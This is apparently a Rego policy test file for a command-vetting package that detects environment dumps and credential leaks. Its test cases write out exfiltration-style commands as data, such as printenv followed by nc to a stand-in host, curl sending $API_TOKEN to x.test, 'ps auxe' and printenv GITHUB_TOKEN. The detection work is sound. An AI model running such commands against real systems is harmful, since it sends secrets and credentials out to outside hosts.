package bailiff_test

test_environment_is_not_sent_unasked if {
	_going([call("printenv", [], []), call("nc", [], ["x.test", "1"])], "x.test") == {"command.sends_environment"}
	_going([call("env", [], []), call("curl", [], [])], "x.test") == {"command.sends_environment"}
	_going([call("printenv", [], [])], "x.test") == set()
}

test_environment_is_found_where_it_leaves if {
	_told([call("printenv", [], []), call("nc", [], ["h", "1"])]) == {"command.sends_environment: "}
	_told([call("env", [], ["A=1", "make"]), call("nc", [], ["h", "1"])]) == set()
	_told([call("ps", [], ["auxe"])]) == {"command.reads_credentials: ps auxe"}
	_told([call("ps", [], ["aux"])]) == set()
	_told_with([call("curl", [], ["https://x.test/$API_TOKEN"])], {"variables": ["API_TOKEN"], "hosts": ["x.test"]}) == {
		"command.sends_environment: ",
	}
	_told_with(
		[call("curl", ["-H"], ["Authorization: $API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	) == set()
	_told_with(
		[call("curl", [], ["-sSH", "Authorization: $API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	) == set()
	_told_with(
		[call("curl", [], ["-dH", "$API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	) == {"command.sends_environment: "}
	_told_with([call("curl", [], ["https://x.test/$LANG"])], {"variables": ["LANG"], "hosts": ["x.test"]}) == set()
	[made.argv | some made in _listings; data.bailiff._dumps_environment(made)] == [
		["printenv"],
		["printenv", "TZ"],
		["env"],
		["export", "-p"],
		["declare", "-x"],
	]
}

_listings := [
	call("printenv", [], []),
	call("printenv", [], ["TZ"]),
	call("env", [], []),
	call("env", ["-i"], []),
	call("env", [], ["make"]),
	call("export", ["-p"], []),
	call("declare", ["-x"], []),
	call("declare", ["-a"], []),
]

test_secrets_looked_for_in_the_environment_are_found if {
	dump := object.union(call("printenv", [], []), {"pipes_to": "grep"})
	_found([dump, call("grep", ["-i"], ["token"])]) == {"command.reads_credentials"}
	_found([dump, call("grep", [], ["PATH"])]) == set()
	_found([call("printenv", [], ["GITHUB_TOKEN"])]) == {"command.reads_credentials"}
	_found([call("printenv", [], ["HOME"])]) == set()
}
